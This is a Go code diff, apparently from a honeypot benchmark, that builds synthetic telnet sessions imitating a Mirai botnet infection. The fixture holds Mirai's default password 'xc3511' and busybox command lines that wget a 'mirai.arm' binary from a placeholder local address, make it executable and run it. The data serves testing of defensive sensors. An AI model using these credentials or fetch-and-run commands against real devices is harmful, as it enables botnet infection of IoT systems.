@@ -30,7 +30,7 @@ import (
 // sensor produces them (15 events, the same kinds and sizes).
 func session(n int) []event.Event {
 	sid := fmt.Sprintf("%012x", n)
-	pw := "xc3511"
+	pw := event.Text("xc3511")
 	base := event.Event{Sensor: "bench", Proto: "telnet", SrcIP: fmt.Sprintf("198.51.%d.%d", n/250%250, n%250+1),
 		SrcPort: 30000 + n%30000, DstPort: 23, Session: sid, Family: "mirai"}
 	mk := func(k event.Kind, f func(*event.Event)) event.Event {
@@ -54,11 +54,11 @@ func session(n int) []event.Event {
 		`/bin/busybox echo -e '\x6b\x61\x6d\x69' > /tmp/.nippon; /bin/busybox cat /tmp/.nippon; /bin/busybox rm /tmp/.nippon`,
 		"/bin/busybox wget http://127.0.0.1:9/bins/mirai.arm -O - > dvrHelper; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI",
 		"exit"} {
-		evs = append(evs, mk(event.CommandInput, func(e *event.Event) { e.Input, e.Output = in, "ECCHI: applet not found\n" }))
+		evs = append(evs, mk(event.CommandInput, func(e *event.Event) { e.Input, e.Output = event.Text(in), "ECCHI: applet not found\n" }))
 	}
 	evs = append(evs,
 		mk(event.FileDownload, func(e *event.Event) {
-			e.URL, e.Tool, e.Filename = "http://127.0.0.1:9/bins/"+sid+"/mirai.arm", "wget", "/tmp/dvrHelper"
+			e.URL, e.Tool, e.Filename = event.Text("http://127.0.0.1:9/bins/"+sid+"/mirai.arm"), "wget", "/tmp/dvrHelper"
 		}),
 		mk(event.SessionClosed, func(e *event.Event) { e.Duration, e.Bytes, e.Message = 0.4, 900, "client exit" }),
 	)
